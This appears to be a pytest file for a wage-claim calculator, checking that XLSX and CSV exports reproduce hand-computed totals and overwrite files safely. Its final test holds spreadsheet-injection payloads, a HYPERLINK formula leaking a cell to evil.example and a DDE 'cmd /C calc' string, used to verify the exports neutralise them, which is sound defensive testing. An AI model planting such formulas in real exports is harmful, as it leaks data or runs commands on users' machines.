"""Export of a Result to XLSX and CSV (issue 8): re-opened, the totals are numbers equal to the
Result's and to figures worked out by hand."""

from __future__ import annotations

import csv
import datetime as dt
from decimal import Decimal as D
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook

from tests.core.factories import case, worker
from wage_remedy.case.model import CaseFile
from wage_remedy.case.store import parse_case_data
from wage_remedy.cli import main
from wage_remedy.compute import compute
from wage_remedy.compute.result import Result
from wage_remedy.export import export_csv, export_xlsx
from wage_remedy.law.catalogue import Catalogue
from wage_remedy.outputs import OutputError

# National minimum 2111.89/month from 2025-02-01: 2111.89 x 3 / 13 / 38 = 12.8252 an hour.
# w1: 2 weekdays x 8 h = 16 h x 12.8252 = 205.2032 -> 205.20 due, 100.00 paid, 105.20 unpaid.
# w2: 1 weekday x 8 h = 8 h x 12.8252 = 102.6016 -> 102.60 due, nothing paid.
# Due on 2025-04-04 (4th working day after 31 March); interest at 4.50 % from 5 April to the
# as-of date 4 May inclusive = 30 days: w1 105.20 x 0.045 x 30 / 365 = 0.389 -> 0.39,
# w2 102.60 x 0.045 x 30 / 365 = 0.379 -> 0.38.
HAND = {
    "w1": {"due": D("205.20"), "paid": D("100.00"), "unpaid": D("105.20"), "interest": D("0.39"), "total": D("105.59")},
    "w2": {"due": D("102.60"), "paid": D("0"), "unpaid": D("102.60"), "interest": D("0.38"), "total": D("102.98")},
}
CASE_TOTAL = {"due": D("307.80"), "paid": D("100.00"), "unpaid": D("207.80"), "interest": D("0.77"),
              "total": D("208.57")}


def _case() -> CaseFile:
    w1 = worker("w1", shifts=[{"date": "2025-03-04", "start": "08:00", "end": "16:00"},
                              {"date": "2025-03-05", "start": "08:00", "end": "16:00"}],
                payments=[{"date": "2025-03-31", "amount": "100.00"}])
    w2 = worker("w2", shifts=[{"date": "2025-03-04", "start": "08:00", "end": "16:00"}])
    return parse_case_data(case([w1, w2], as_of="2025-05-04"))


@pytest.fixture
def computed(catalogue: Catalogue) -> tuple[CaseFile, Result]:
    c = _case()
    return c, compute(c, catalogue)


def _num(v: Any) -> D:
    assert isinstance(v, int | float) and not isinstance(v, bool), f"{v!r} is not a number"
    return D(str(v))


def test_xlsx_summary_totals_are_numbers_equal_to_the_result(tmp_path: Path, computed: tuple[CaseFile, Result]) -> None:
    c, result = computed
    path = export_xlsx(result, c, tmp_path / "calc.xlsx")
    wb = load_workbook(path)
    assert wb.sheetnames == ["Summary", "w1 Worker w1", "w2 Worker w2", "Heads of claim", "Rate versions",
                             "Notes"]
    ws = wb["Summary"]
    rows = {r[0].value: r for r in ws.iter_rows() if r[0].value is not None}
    assert rows["Case"][1].value == "TEST-1"
    assert rows["Verification code"][1].value == result.verification_code
    assert rows["As of"][1].value == dt.datetime(2025, 5, 4)
    keys = ("due", "paid", "unpaid", "interest", "total")
    for wid in ("w1", "w2"):
        cells = rows[wid]
        got = dict(zip(keys, (_num(cells[i].value) for i in range(2, 7)), strict=True))
        assert got == HAND[wid]
        wr = result.worker(wid)
        assert got == {"due": wr.due, "paid": wr.paid, "unpaid": wr.unpaid, "interest": wr.interest, "total": wr.total}
        assert all(cells[i].data_type == "n" and cells[i].number_format == "0.00" for i in range(2, 7))
    total = dict(zip(keys, (_num(rows["TOTAL"][i].value) for i in range(2, 7)), strict=True))
    assert total == CASE_TOTAL
    assert total == {"due": result.due, "paid": result.paid, "unpaid": result.unpaid,
                     "interest": result.interest, "total": result.total}


def test_xlsx_worker_sheet_lines_and_period_totals(tmp_path: Path, computed: tuple[CaseFile, Result]) -> None:
    c, result = computed
    wb = load_workbook(export_xlsx(result, c, tmp_path / "calc.xlsx"))
    ws = wb["w1 Worker w1"]
    head = [x.value for x in ws[1]]
    col = {name: i for i, name in enumerate(head)}
    rows = [list(r) for r in ws.iter_rows(min_row=2)]
    line = next(r for r in rows if r[col["Kind"]].value == "normal")
    assert line[col["Period"]].value == "2025-03"
    assert _num(line[col["Hours"]].value) == 16 and line[col["Minutes"]].value == 960
    assert _num(line[col["Rate"]].value) == D("12.8252") and line[col["Rate"]].number_format == "0.0000"
    assert _num(line[col["Amount"]].value) == D("205.20") and line[col["Amount"]].number_format == "0.00"
    assert line[col["Binding"]].value == "national" and line[col["Rate table"]].value == "be/national-minimum"
    assert line[col["Version"]].value == dt.datetime(2025, 2, 1)
    total = next(r for r in rows if r[col["Kind"]].value == "period total")
    assert [_num(total[col[k]].value) for k in ("Amount", "Paid", "Unpaid", "Interest")] == [
        D("205.20"), D("100.00"), D("105.20"), D("0.39")]
    assert total[col["Due date"]].value == dt.datetime(2025, 4, 4)
    versions = [(r[0].value, r[1].value) for r in wb["Rate versions"].iter_rows(min_row=2)]
    assert ("be/national-minimum", dt.datetime(2025, 2, 1)) in versions
    assert len(versions) == len(result.rate_versions)


def test_csv_files_hold_the_same_figures(tmp_path: Path, computed: tuple[CaseFile, Result]) -> None:
    c, result = computed
    files = export_csv(result, c, tmp_path / "out")
    assert [p.name for p in files] == ["summary.csv", "worker-w1.csv", "worker-w2.csv", "heads.csv",
                                       "rate-versions.csv", "notes.csv"]
    raw = (tmp_path / "out" / "summary.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # Excel reads the accents right
    rows = list(csv.reader(raw.decode("utf-8-sig").splitlines()))
    by_key = {r[0]: r for r in rows if r}
    assert by_key["Verification code"][1] == result.verification_code
    assert [D(x) for x in by_key["w1"][2:7]] == list(HAND["w1"].values())
    assert by_key["TOTAL"][2:7] == ["307.80", "100.00", "207.80", "0.77", "208.57"]
    prefixed = export_csv(result, c, tmp_path / "calc.csv")
    assert [p.name for p in prefixed][:2] == ["calc-summary.csv", "calc-worker-w1.csv"]


def test_export_replaces_atomically_and_cli_option(tmp_path: Path, computed: tuple[CaseFile, Result],
                                                   capsys: pytest.CaptureFixture[str]) -> None:
    c, result = computed
    target = tmp_path / "calc.xlsx"
    target.write_bytes(b"old")
    with pytest.raises(OutputError, match="already exists"):  # issue 18: not without overwrite
        export_xlsx(result, c, target)
    assert target.read_bytes() == b"old"
    export_xlsx(result, c, target, overwrite=True)
    assert load_workbook(target).sheetnames[0] == "Summary"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["calc.xlsx"]  # no temp file left
    from wage_remedy.case.store import save_case
    cpath = tmp_path / "case.json"
    save_case(c, cpath)
    out = tmp_path / "cli.xlsx"
    assert main(["compute", str(cpath), "--export", str(out)]) == 0
    assert f"written: {out}" in capsys.readouterr().err
    ws = load_workbook(out)["Summary"]
    total = next(r for r in ws.iter_rows(values_only=True) if r[0] == "TOTAL")
    assert _num(total[6]) == D("208.57")


def test_formula_like_text_is_inert_in_every_csv_and_xlsx_export(tmp_path: Path, catalogue: Catalogue) -> None:
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    w1 = worker("w1", shifts=[{"date": "2025-03-04", "start": "08:00", "end": "16:00"}])
    w1["name"] = evil
    w2 = worker("w2", shifts=[{"date": "2025-03-04", "start": "08:00", "end": "16:00"}])
    w2["name"] = "@SUM(1+1)"
    data = case([w1, w2], as_of="2025-05-04")
    data["employer"]["name"] = "+32 cmd|' /C calc'!A0"
    c = parse_case_data(data)
    result = compute(c, catalogue)
    cells: list[str] = []
    for f in export_csv(result, c, tmp_path / "out"):
        cells += [x for row in csv.reader(f.read_text(encoding="utf-8-sig").splitlines()) for x in row]
    assert "'" + evil in cells and "'@SUM(1+1)" in cells
    assert evil not in cells and "@SUM(1+1)" not in cells
    # no cell a spreadsheet would run: text starting with = + - @ (numbers here are never negative)
    assert [x for x in cells if x[:1] in ("=", "+", "@") or (x[:1] == "-" and not x[1:2].isdigit())] == []
    out = tmp_path / "calc.xlsx"
    export_xlsx(result, c, out)
    wb = load_workbook(out)
    names = [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row if cell.value == evil]
    assert names and all(cell.data_type == "s" for cell in names)  # kept as text, not a formula
